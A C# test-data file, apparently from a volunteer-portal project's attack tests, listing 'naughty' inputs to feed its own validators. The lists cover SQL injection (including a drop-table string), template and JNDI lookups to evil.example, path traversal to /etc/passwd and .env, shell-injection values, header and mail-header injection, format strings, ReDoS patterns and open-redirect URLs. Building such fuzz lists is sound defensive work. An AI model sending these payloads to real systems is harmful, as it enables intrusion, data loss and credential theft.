namespace VolunteerPortal.AttackTests.BadInput.Naughty;

/// <summary>Texts another program would take for its own language: databases, shells, templates, file systems, loggers,
/// protocols.</summary>
public static class NaughtyCommands
{
    private static readonly string[] Sql =
    [
        "' or '1'='1", "' or 1=1--", "\" or \"\"=\"", "'; drop table accounts; --", "1; select pg_sleep(9)--",
        "1' and 1=cast((select version()) as int)--",
        "') or ('a'='a", "x' union select null,null,null--", "admin'--", "admin'/*", "\\' or 1=1--", "%' or '%'='", "$$; select 1; $$",
        "E'\\\\x27'", "1e0or 1=1",
        "%", "_", "%%%%", "\\", "\\\\", "\\%", "[a-z]", "(", ")", "*", "?", "$1", ":p0", "@p0", "{0}", "{{0}}", "';", "--", "/*", "*/",
        "||", "::text", "0x27",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@{int.Parse(\"x\");}", "{%raw%}", "*{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}", "${env:PATH}", "{@Message}", "{Level:u3}{NewLine}",
    ];

    private static readonly string[] Files =
    [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd\0.png", "file:///etc/passwd",
        "\\\\evil.example\\share",
        "C:\\boot.ini", "CON", "NUL.txt", "aux.", ".", "..", "/", "//", "\\", "~", "~root", ".htaccess", "web.config", "appsettings.json",
        "a/b", "a:b", "a::$DATA",
        "x.php%00.jpg", ".env", "wwwroot/../appsettings.json", "%2e%2e%2f", "..;/admin",
    ];

    private static readonly string[] Shells =
    [
        "; id", "| id", "`id`", "$(id)", "& whoami &", "&& sleep 9", "\nid\n", "a;{id,}", "() { :;}; id", "-rf", "--help", "%COMSPEC%",
    ];

    private static readonly string[] Lines =
    [
        "a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\rX-Evil: 1", "a\r\nSet-Cookie: evil=1", "a\r\n\r\n<script>alert(1)</script>",
        "a\u2028X-Evil: 1", "嘊嘍X-Evil: 1",
        "a%0d%0aX-Evil:%201", "a\u0085b", "a\u001b[31mred\u001b[0m", "a\b\b\bb", "14:00:00 INF POST /admin 200\n",
        "a\r\n.\r\nMAIL FROM:<x@example.org>",
        "x@example.org\r\nBcc: y@example.org",
    ];

    private static readonly string[] Formats =
    [
        "%s%s%s%s%n", "%x%x%x", "%n", "%99999999s", "{0}{1}{2}", "{0,999999}", "{:d}", "%d%i%u", "{", "}", "{{", "}}", "{a", "%1$s",
    ];

    private static readonly string[] Filters =
    [
        "*)(uid=*))(|(uid=*", "' or count(//*)>0 or 'a'='a", "*", "(a+)+$", NaughtyUnicode.Times("a", 60) + "!",
        NaughtyUnicode.Times("(", 200), "[[:alpha:]]", "(?R)",
        "\\p{L}", ".*",
    ];

    private static readonly string[] Addresses =
    [
        "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example",
        "https://evil.example", "http:evil.example",
        "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "/%09/evil.example",
        "/%2f%2fevil.example", "/%5cevil.example",
        "/.//evil.example", "/..//evil.example", "//evil.example%2f..", "https:evil.example", "/@evil.example", "@evil.example",
        "evil.example", "/me\r\nX-Evil: 1",
        "/appeals?x=//evil.example", "/\t/evil.example", "/ /evil.example", "http://[::1]:5432", "gopher://localhost:5432/", "//[::1]/",
        "/login?ReturnUrl=/login?ReturnUrl=/login",
        "x@example.org", "x@", "@example.org", "a@b@c.example", "\"a b\"@example.org", "x@[127.0.0.1]", "x@例子.example",
        "x@" + NaughtyUnicode.Times("a", 250) + ".example",
    ];

    public static IEnumerable<string> All => [.. Sql, .. Templates, .. Files, .. Shells, .. Lines, .. Formats, .. Filters, .. Addresses];
}
